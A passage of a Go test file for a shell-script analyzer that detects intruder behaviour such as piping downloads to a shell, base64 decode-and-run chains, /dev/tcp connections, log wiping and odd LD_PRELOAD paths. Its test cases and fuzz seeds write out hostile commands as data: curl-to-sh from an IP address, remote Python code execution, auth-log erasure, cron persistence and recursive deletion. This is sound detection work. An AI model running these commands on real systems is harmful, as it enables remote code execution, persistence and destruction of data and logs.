		{"wget -qO- evil.example.net:8080/a,b?x=1,2", "wget", "evil.example.net:8080/a,b?x=1,2"},
		{"wget -qO- evil.example.net,other.example.net", "wget", ""},
	} {
		f := Analyze(tt.text)
		if got := strings.Join(f.Programs, ","); got != tt.programs {
			t.Errorf("%q: programs %q, want %q", tt.text, got, tt.programs)
		}
		if got := strings.Join(f.URLs, ","); got != tt.urls {
			t.Errorf("%q: urls %q, want %q", tt.text, got, tt.urls)
		}
	}
}

// A statement with bytes that are no UTF-8 stands at its place, with the bytes of
// the script.
func TestStatementsRaw(t *testing.T) {
	const script = "# caf\xe9\nif true; then\n  /opt/\xe9/\xb5/m -x\nfi\n"
	list := Statements(script)
	if len(list) == 0 {
		t.Fatal("no statement")
	}
	st := list[len(list)-1]
	if want := "/opt/\xe9/\xb5/m"; len(st.Facts.Programs) != 1 || st.Facts.Programs[0] != want {
		t.Errorf("programs %q, want %q", st.Facts.Programs, want)
	}
	if got := script[st.Offset : st.Offset+st.Length]; got != st.Text || st.Text != "/opt/\xe9/\xb5/m -x" || st.Line != 3 {
		t.Errorf("line %d: %q, in the script %q", st.Line, st.Text, got)
	}
}

// Each byte that is no UTF-8 comes back, as long as there are control characters
// that the text does not hold.
func TestTakeRaw(t *testing.T) {
	var all []byte
	for b := 0x80; b < 0x98; b++ {
		all = append(all, byte(b), ' ')
	}
	for _, in := range []string{"", "abc\u00e9", "\xff", "a\xffb\xfe\xff\u4e2d", string(all), "\x01\xff\x02"} {
		out, r := takeRaw(in)
		if !utf8.ValidString(out) || len(out) != len(in) || r.text(out) != in {
			t.Errorf("%q became %q and %q again", in, out, r.text(out))
		}
	}
	if out, _ := takeRaw(string(all) + "\x98\x99\x9a\x9b"); !utf8.ValidString(out) || !strings.Contains(out, "?") {
		t.Errorf("%q", out)
	}
}

func TestDecoded(t *testing.T) {
	const text = "curl -fsSL http://203.0.113.77/i.sh | sh"
	for _, in := range []string{"echo " + encode(text) + "|base64 -d|sh", "echo " + encode("echo "+encode(text)+"|base64 -d|sh") + "|base64 -d|sh"} {
		f := Analyze(in)
		if f.Decoded == "" || !f.Has("pipe_to_shell") || len(f.URLs) != 1 {
			t.Errorf("%q: %+v", in, f)
		}
	}
	deeper := text
	for range 5 {
		deeper = "echo " + encode(deeper) + "|base64 -d|sh"
	}
	if f := Analyze(deeper); !f.Has("decode_exec") {
		t.Errorf("five levels: %+v", f)
	}
}

func TestStatements(t *testing.T) {
	const text = "#!/bin/sh -e\n# x\nA=/tmp/x\n\nif [ -f /etc/x ]; then\n\techo y\n\t$A -d &\nfi\nf() {\n\tcurl http://203.0.113.77/i | sh\n}\ncat <<E | sh\n/tmp/b\nE\na \\\n  b\nexit 0\n"
	want := []struct {
		line         int
		text, traits string
	}{
		{3, "A=/tmp/x", ""},
		{5, "[ -f /etc/x ]", ""},
		{6, "echo y", ""},
		{7, "$A -d &", "background,temp_exec"},
		{10, "curl http://203.0.113.77/i | sh", "fetch,pipe_to_shell"},
		{12, "cat <<E | sh", "temp_exec"},
		{15, "a \\\n  b", ""},
		{17, "exit 0", ""},
	}
	got := Statements(text)
	for i, st := range got {
		if i >= len(want) {
			t.Errorf("one more: %+v", st)
			continue
		}
		if st.Line != want[i].line || !strings.HasPrefix(st.Text, want[i].text) || strings.Join(st.Facts.Traits, ",") != want[i].traits {
			t.Errorf("%+v, want %+v", st, want[i])
		}
		if at := text[st.Offset : st.Offset+st.Length]; at != st.Text {
			t.Errorf("the place holds %q, not %q", at, st.Text)
		}
	}
	if len(got) < len(want) {
		t.Errorf("%d statements, want %d", len(got), len(want))
	}
}

// TestStatementsBroken: what does not parse costs its line, not the lines around
// it.
func TestStatementsBroken(t *testing.T) {
	const text = "A=/tmp\n$A/a\nfi fi\n$A/b\n<<<>>>\n$A/c\n"
	var lines []int
	for _, st := range Statements(text) {
		if st.Facts.Has("temp_exec") {
			lines = append(lines, st.Line)
		}
	}
	if len(lines) != 3 || lines[0] != 2 || lines[1] != 4 || lines[2] != 6 {
		t.Errorf("lines %v", lines)
	}
}

// TestPadded hides a line in front of, or behind, more text than is read.
func TestPadded(t *testing.T) {
	pad := strings.Repeat(": padding\n", 200_000)
	for _, text := range []string{pad + "/tmp/a\n", "/tmp/a\n" + pad, "/tmp/a &\n" + pad + "/tmp/b\n"} {
		if f := Analyze(text); !f.Has("temp_exec") {
			t.Errorf("%.20q...: %v", text, f.Traits)
		}
		n := 0
		for _, st := range Statements(text) {
			if st.Facts.Has("temp_exec") {
				n++
				if !strings.HasPrefix(text[st.Offset:], "/tmp/") {
					t.Errorf("the place holds %.20q", text[st.Offset:])
				}
			}
		}
		if n == 0 {
			t.Error("no statement with it")
		}
	}
}

// TestHostile: what a parser stumbles over is done with in bounded steps.
func TestHostile(t *testing.T) {
	for _, text := range []string{
		strings.Repeat("(", 20_000), strings.Repeat("$(", 20_000), strings.Repeat("if ", 20_000), strings.Repeat("`", 20_000), strings.Repeat("{ ", 20_000), strings.Repeat("\"$(", 20_000),
		strings.Repeat("a && ", 20_000) + "a", strings.Repeat("a | ", 20_000) + "a", strings.Repeat("for i in a b c d; do ", 30) + "x" + strings.Repeat("; done", 30),
		"A=aaaaaaaaaaaaaaaa\n" + strings.Repeat("A=$A$A\n", 1000) + strings.Repeat("echo $A$A$A$A\n", 1000), "f() { f; f; }; f", strings.Repeat("f() { g; g; }; g() { f; f; };", 100) + "f",
		strings.Repeat("<<A ", 20_000), strings.Repeat("${a:-", 20_000), strings.Repeat("eval eval sh -c ", 20_000), strings.Repeat("x\x00y", 20_000), strings.Repeat("sudo ", 20_000), strings.Repeat("A", 600_000), strings.Repeat("\n(", 20_000), strings.Repeat("a\\\n", 20_000),
		strings.Repeat("sh -c 'sh -c \"", 1000),
	} {
		began := time.Now()
		_ = Analyze(text)
		t.Logf("%.20q: %v", text, time.Since(began))
	}
}

// TestHostScripts: the machine's own maintainer and init scripts do nothing that an
// intruder's do.
func TestHostScripts(t *testing.T) {
	var files []string
	for _, g := range []string{"/var/lib/dpkg/info/*.postinst", "/var/lib/dpkg/info/*.prerm", "/var/lib/dpkg/info/*.postrm", "/var/lib/dpkg/info/*.preinst", "/etc/init.d/*", "/etc/cron.daily/*", "/etc/profile", "/etc/profile.d/*", "/etc/skel/.*rc", "/etc/skel/.profile", "/etc/bash.bashrc"} {
		m, _ := filepath.Glob(g)
		files = append(files, m...)
	}
	if len(files) < 50 {
		t.Skip("this is no Debian")
	}
	for _, name := range files {
		b, err := os.ReadFile(name)
		if err != nil {
			continue
		}
		f := Analyze(string(b))
		for _, trait := range []string{"pipe_to_shell", "fetch_exec", "decode_exec", "temp_exec", "hidden_exec", "dots_dir", "dev_tcp", "reverse_shell", "history_off", "key_write", "preload_write", "log_wipe", "kill_list", "miner_args", "interpreter_fetch", "encoded", "path_odd", "alias_filter"} {
			if f.Has(trait) {
				t.Errorf("%s: %s", name, trait)
			}
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		"(curl -s http://203.0.113.77/i.sh || wget -qO- x) | sh", "A=/tmp/x; $A &", "echo " + encode("curl x | sh") + " | base64 -d | sh", "cat <<E > /etc/cron.d/x\n* * * * * root /tmp/x\nE\n",
		"f() { f; }; f; for i in {1..9} a b; do $i; done", "case x in a) b;; esac; [[ -f x ]] && (( a++ ))", "sh -c \"$(curl x)\"; eval `x`; . <(y)", "#!/usr/bin/perl\nsystem('/tmp/x');", "fi\nif\n((\n", "printf '\\x63%s' a | sh; echo -e '\\0143'", "$'\\x2f' ${A:-b} ${A//a/b} ${!A} ${#A} \"${A[@]}\"",
		"exec 3<>/dev/tcp/a/1; sed -i '/x/d' /var/log/auth.log", "find / -exec rm {} \\; -delete", "curl -o", "wget -nv -O", "xargs", "sudo -u", "env -S", "openssl enc -d -in", "tmux new -d",
	} {
		f.Add(s)
	}
	f.Add("import urllib.request as u, os\nexec(u.urlopen('http://203.0.113.77/x').read())\nos.system(\"/tmp/x\")\n")
	f.Fuzz(func(t *testing.T, s string) {
		for _, interpreter := range []string{"python", "perl"} {
			if f := AnalyzeCode(s, interpreter); len(f.Programs) > maxListed {
				t.Fatal("too many")
			}
		}
		facts := Analyze(s)
		if len(facts.Programs) > maxListed || len(facts.URLs) > maxListed {
			t.Fatal("too many")
		}
		end := int64(0)
		for _, st := range Statements(s) {
			if st.Offset < 0 || st.Length < 0 || st.Offset+st.Length > int64(len(s)) {
				t.Fatalf("statement at %d+%d of %d", st.Offset, st.Length, len(s))
			}
			end = max(end, st.Offset)
			if !strings.HasPrefix(s[st.Offset:st.Offset+st.Length], st.Text) {
				t.Fatalf("%q is not at %d", st.Text, st.Offset)
			}
		}
	})
}

// TestPreload: an allocator of the system is preloaded as a matter of course, from each
// of the system's directories; anything else, and from anywhere else, is not.
func TestPreload(t *testing.T) {
	for v, odd := range map[string]bool{
		"libjemalloc.so.2": false, "/lib/libjemalloc.so.2": false, "/lib64/libjemalloc.so.2": false, "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2": false,
		"/usr/lib64/libtcmalloc.so.4": false, "/usr/local/lib/libmimalloc.so": false, "/usr/local/lib64/libmimalloc.so": false, "/$LIB/libfakeroot.so": false,
		"/usr/$LIB/libstdbuf.so": false, "'/lib64/libjemalloc.so.2' libgomp.so.1": false, "$LD_PRELOAD:libjemalloc.so.2": false, "": false,
		"/tmp/libjemalloc.so.2": true, "/lib65/libjemalloc.so.2": true, "/opt/lib64/libjemalloc.so.2": true, "/lib64/../tmp/libjemalloc.so.2": true,
		"/lib64/.x/libjemalloc.so.2": true, "/lib64/libhide.so": true, "libhide.so": true, "libjemalloc.so.2:/dev/shm/x.so": true, "./libjemalloc.so.2": true,
	} {
		if got := suspiciousPreload(v); got != odd {
			t.Errorf("%q: %v", v, got)
		}
	}
}
